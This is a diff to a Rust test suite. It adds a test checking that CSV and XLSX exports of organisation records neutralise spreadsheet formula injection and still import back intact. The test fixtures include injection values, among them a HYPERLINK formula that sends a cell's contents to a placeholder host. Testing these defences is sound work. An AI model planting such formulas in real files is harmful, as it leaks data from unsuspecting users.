@@ -326,6 +326,66 @@ mod tests {
     }
 
     #[test]
+    fn an_export_of_formula_names_is_inert_and_imports_back() {
+        let (mut regions, mut units) = tree();
+        // Names and codes as a careless (or hostile) administrator may have typed them.
+        regions[0].name = "=1+1".into();
+        regions[1].name = "=HYPERLINK(\"http://x/?\"&A2,\"点击\")".into();
+        regions[2].code = "-991002001".into();
+        units[0].name = "@SUM(A1)".into();
+        units[0].short_name = "+1".into();
+        units[1].name = "'=1".into();
+        units[2].short_name = "-1".into();
+        units[3].code = "+99100200101".into();
+        let data = org_rows(&regions, &units);
+        let csv = write_csv(&ORG_HEADERS, &data);
+        let xlsx = write_xlsx("机构", &ORG_HEADERS, &data).unwrap();
+        assert_eq!(
+            crate::formula_cells(&csv, crate::Format::Csv),
+            Vec::<String>::new()
+        );
+        assert_eq!(
+            crate::formula_cells(&xlsx, crate::Format::Xlsx),
+            Vec::<String>::new()
+        );
+        // Not one field of the CSV, as a spreadsheet parses it, starts a formula.
+        let mut reader = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(&csv[3..]);
+        for field in reader
+            .records()
+            .flat_map(|r| r.unwrap().into_iter().map(String::from).collect::<Vec<_>>())
+        {
+            assert!(!crate::is_formula_like(&field), "{field:?}");
+        }
+        let from_csv = parse_org(read_csv(&csv, &Limits::default()).unwrap()).unwrap();
+        let from_xlsx = parse_org(read_xlsx(&xlsx, None, &Limits::default()).unwrap()).unwrap();
+        for parsed in [from_csv, from_xlsx] {
+            let names: Vec<(String, String)> = parsed
+                .iter()
+                .map(|(_, r)| match r {
+                    OrgRow::Region { code, name, .. } => (code.clone(), name.clone()),
+                    OrgRow::Unit {
+                        code,
+                        name,
+                        short_name,
+                        ..
+                    } => (code.clone(), format!("{name}|{short_name}")),
+                })
+                .collect();
+            assert_eq!(names[0], ("991000".into(), "=1+1".into()));
+            assert_eq!(names[2], ("-991002001".into(), "东湖区清溪街道".into()));
+            assert_eq!(names[3].1, "@SUM(A1)|+1");
+            assert_eq!(names[4].1, "'=1|");
+            assert_eq!(
+                names[6],
+                ("+99100200101".into(), "东湖区清溪街道办事处|".into())
+            );
+            assert_eq!(names[1].1, "=HYPERLINK(\"http://x/?\"&A2,\"点击\")");
+        }
+    }
+
+    #[test]
     fn columns_by_name_in_any_order_and_short_name_optional() {
         let parsed = parse_org(rows(
             " 上级代码 ,名 称,类型,代码,类别,备注\n,青川市,市,991000,区域,随便写\n991000,青川市司法局,司法局,99100002,单位,\n",
